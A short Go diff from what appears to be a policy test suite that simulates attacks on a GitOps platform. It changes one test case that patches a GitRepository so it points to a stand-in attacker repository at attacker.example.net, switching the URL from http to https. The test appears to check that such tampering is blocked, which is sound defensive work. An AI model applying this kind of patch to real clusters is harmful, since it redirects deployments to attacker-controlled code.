@@ -27,7 +27,7 @@ func markAttacks() []attack {
 		{
 			name: "the platform's Kustomization: another repository",
 			call: func(ctx context.Context, a *attempt) error {
-				return a.tryPatch(ctx, a.attacker.GitRepository, `{"spec":{"url":"http://attacker.example.net/x.git"}}`)
+				return a.tryPatch(ctx, a.attacker.GitRepository, `{"spec":{"url":"https://attacker.example.net/x.git"}}`)
 			},
 			policy: platforms,
 		},
